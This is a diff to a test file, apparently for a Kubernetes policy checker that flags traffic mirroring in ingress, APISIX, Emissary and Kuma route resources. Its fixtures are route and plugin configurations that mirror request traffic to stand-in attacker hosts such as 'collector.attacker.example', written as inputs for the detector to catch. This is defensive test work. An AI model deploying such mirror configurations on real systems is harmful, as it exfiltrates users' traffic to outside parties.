@@ -137,8 +137,51 @@ describe('traffic_mirrored: mesh and gateway routes', () => {
     expect(codes(write(ING, encodeKube(proto), 'application/vnd.kubernetes.protobuf'))).toEqual(MIRRORED);
     expect(codes(write(ING, ing('http://shop-v2.shop.svc.attacker.example$request_uri')))).toEqual(MIRRORED);
     expect(codes(write(ING, ing('http://shop-v2.shop.svc.cluster.local$request_uri')))).toEqual([]);
-    expect(codes(write(ING, ing('http://shop-v2.shop:8080$request_uri')))).toEqual([]);
+    expect(codes(write(ING, ing('http://shop-v2.shop.svc:8080$request_uri')))).toEqual([]);
+    // review47b: `<svc>.<ns>` is asked of public DNS as it is by nginx's resolver (a variable in
+    // the target), and `shop`, `dev`, `app` are top-level domains: collector.shop is anyone's.
+    expect(codes(write(ING, ing('http://shop-v2.shop:8080$request_uri')))).toEqual(MIRRORED);
+    expect(codes(write(ING, ing('https://collector.shop.$request_uri')))).toEqual(MIRRORED);
+    expect(codes(write(ING, ing('https://collector.shop')))).toEqual(MIRRORED);
     expect(codes(write(ING, ing('https://$http_x_mirror$request_uri')))).toEqual(MIRRORED);
+  });
+
+  // review47b: two route kinds the project reads for their hosts carry a mirror too.
+  it("finds APISIX's proxy-mirror plugin on a route, a plugin config and a global rule", () => {
+    const AR = '/apis/apisix.apache.org/v2/namespaces/shop/apisixroutes';
+    const plugin = (host: string, extra: object = {}) => ({ name: 'proxy-mirror', enable: true, config: { host }, ...extra });
+    const ar = (p: object) => ({ apiVersion: 'apisix.apache.org/v2', kind: 'ApisixRoute', metadata: { name: 'shop', namespace: 'shop' }, spec: { http: [{ name: 'r', match: { hosts: ['shop.example.com'], paths: ['/*'] }, backends: [{ serviceName: 'shop', servicePort: 80 }], plugins: [p] }] } });
+    expect(codes(write(AR, ar(plugin('http://collector.attacker.example:9797'))))).toEqual(MIRRORED);
+    expect(codes(write(AR, ar(plugin('http://collector.shop'))))).toEqual(MIRRORED);
+    expect(codes(write(AR, ar({ name: 'proxy-mirror', enable: true, secretRef: 'mirror-conf' })))).toEqual(MIRRORED);
+    expect(codes(write(`${AR}/shop`, [{ op: 'replace', path: '/spec/http/0/plugins/0/config/host', value: 'http://203.0.113.9' }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
+    expect(codes(write(AR, ar(plugin('http://shop-v2.shop.svc.cluster.local:80'))))).toEqual([]);
+    expect(codes(write(AR, ar(plugin('http://collector.attacker.example', { enable: false }))))).toEqual([]);
+    const PC = '/apis/apisix.apache.org/v2/namespaces/shop/apisixpluginconfigs';
+    expect(codes(write(PC, { apiVersion: 'apisix.apache.org/v2', kind: 'ApisixPluginConfig', metadata: { name: 'm', namespace: 'shop' }, spec: { plugins: [plugin('http://collector.attacker.example')] } }))).toEqual(MIRRORED);
+    const GR = '/apis/apisix.apache.org/v2/namespaces/shop/apisixglobalrules';
+    expect(codes(write(GR, { apiVersion: 'apisix.apache.org/v2', kind: 'ApisixGlobalRule', metadata: { name: 'g', namespace: 'shop' }, spec: { plugins: [plugin('http://collector.attacker.example')] } }))).toEqual(MIRRORED);
+  });
+
+  it("finds an Emissary Mapping's shadow to a host outside the Mapping's namespace", () => {
+    const M = '/apis/getambassador.io/v3alpha1/namespaces/shop/mappings';
+    const m = (service: string, shadow = true) => ({ apiVersion: 'getambassador.io/v3alpha1', kind: 'Mapping', metadata: { name: 'm', namespace: 'shop' }, spec: { hostname: '*', prefix: '/', service, shadow } });
+    expect(codes(write(M, m('https://collector.attacker.example')))).toEqual(MIRRORED);
+    expect(codes(write(M, m('collector.shop:443')))).toEqual(MIRRORED);
+    expect(codes(write(M, m('sink.lab.svc.cluster.local')))).toEqual(MIRRORED);
+    expect(codes(write(`${M}/m`, { spec: { shadow: true } }, MERGE, 'PATCH'))).toEqual(MIRRORED);
+    expect(codes(write(M, m('shop-v2:8080')))).toEqual([]);
+    expect(codes(write(M, m('http://shop-v2.shop.svc.cluster.local')))).toEqual([]);
+  });
+
+  it("finds Kuma's MeshHTTPRoute RequestMirror outside the route's namespace", () => {
+    const MR = '/apis/kuma.io/v1alpha1/namespaces/shop/meshhttproutes';
+    const mr = (backendRef: object) => ({ apiVersion: 'kuma.io/v1alpha1', kind: 'MeshHTTPRoute', metadata: { name: 'shop', namespace: 'shop' }, spec: { targetRef: { kind: 'Mesh' }, to: [{ targetRef: { kind: 'MeshService', name: 'shop' }, rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/' } }], default: { filters: [{ type: 'RequestMirror', requestMirror: { backendRef } }] } }] }] } });
+    expect(codes(write(MR, mr({ kind: 'MeshExternalService', name: 'collector' })))).toEqual(MIRRORED);
+    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'sink', namespace: 'lab' })))).toEqual(MIRRORED);
+    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'sink_lab_svc_80' })))).toEqual(MIRRORED);
+    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'shop-v2' })))).toEqual([]);
+    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'shop-v2_shop_svc_80' })))).toEqual([]);
   });
 
   it("finds a TraefikService mirror to another namespace or provider, and Antrea's TrafficControl", () => {
